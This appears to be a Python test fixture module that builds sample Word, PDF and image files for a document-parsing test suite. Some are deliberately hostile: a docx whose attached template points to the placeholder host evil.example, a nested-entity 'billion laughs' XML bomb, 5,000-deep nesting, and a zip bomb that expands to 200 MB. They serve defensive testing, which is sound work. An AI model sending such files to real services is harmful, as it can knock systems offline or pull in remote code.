"""Documents made for the tests: a Word file of given paragraphs, and some that were made to hurt."""

from __future__ import annotations

import io
import zipfile
from pathlib import Path

FONT = Path(__file__).parents[3] / "replies" / "blanks" / "DejaVuSans.ttf"
SPACE = 'xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"'


def word(body: str, *, before: str = "", files: dict[str, bytes] | None = None) -> bytes:
    """A docx of a body, with further files in it."""
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as package:
        package.writestr("[Content_Types].xml", "<Types/>")
        package.writestr("word/document.xml", f"{before}<w:document {SPACE}><w:body>{body}</w:body></w:document>")
        for name, data in (files or {}).items():
            package.writestr(name, data)
    return out.getvalue()


def line(text: str) -> str:
    return f"<w:p><w:r><w:t>{text}</w:t></w:r></w:p>"


def control(tag: str, text: str, *, hint: bool = False) -> str:
    shown = "<w:showingPlcHdr/>" if hint else ""
    return f'<w:sdt><w:sdtPr><w:tag w:val="{tag}"/>{shown}</w:sdtPr><w:sdtContent>{line(text)}</w:sdtContent></w:sdt>'


def with_macros() -> bytes:
    return word(line("hej"), files={"word/vbaProject.bin": b"x"})


def with_a_foreign_template() -> bytes:
    relation = (
        '<Relationships><Relationship Id="r1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships'
        '/attachedTemplate" Target="http://evil.example/t.dotm" TargetMode="External"/></Relationships>'
    )
    return word(line("Maten är kall."), files={"word/_rels/settings.xml.rels": relation.encode()})


def with_entities() -> bytes:
    """Ten entities that each stand for ten of the one before."""
    levels = "".join(f'<!ENTITY e{i} "{f"&e{i - 1};" * 10}">' for i in range(1, 10))
    return word(line("&e9;"), before=f'<!DOCTYPE d [<!ENTITY e0 "lol">{levels}]>')


def with_depth() -> bytes:
    return word("<w:p>" * 5_000 + "</w:p>" * 5_000)


def with_200_megabytes() -> bytes:
    """Blanks, in a file of 200 kB."""
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED, compresslevel=1) as package:
        package.writestr("word/document.xml", b" " * 200_000_000)
    return out.getvalue()


def pdf_pages(count: int, *, password: str = "") -> bytes:
    from pypdf import PdfWriter

    writer, out = PdfWriter(), io.BytesIO()
    for _ in range(count):
        writer.add_blank_page(200, 200)
    if password:
        writer.encrypt(password)
    writer.write(out)
    return out.getvalue()


def photo(lines: list[str], *, size: tuple[int, int] = (1100, 700)) -> bytes:
    """A page as a camera or a scanner sees it: what stands behind a tab in a second column."""
    from PIL import Image, ImageDraw, ImageFont

    page, out = Image.new("L", size, 235), io.BytesIO()
    font = ImageFont.truetype(str(FONT), 26)
    for number, line in enumerate(lines):
        for column, text in enumerate(line.split("\t")):
            ImageDraw.Draw(page).text((40 + 520 * column, 40 + 50 * number), text, fill=30, font=font)
    page.save(out, "JPEG", quality=90)
    return out.getvalue()


def scanned(picture: bytes) -> bytes:
    """A PDF that holds nothing but a picture."""
    from PIL import Image

    out = io.BytesIO()
    with Image.open(io.BytesIO(picture)) as held:
        held.save(out, "PDF", resolution=150)
    return out.getvalue()
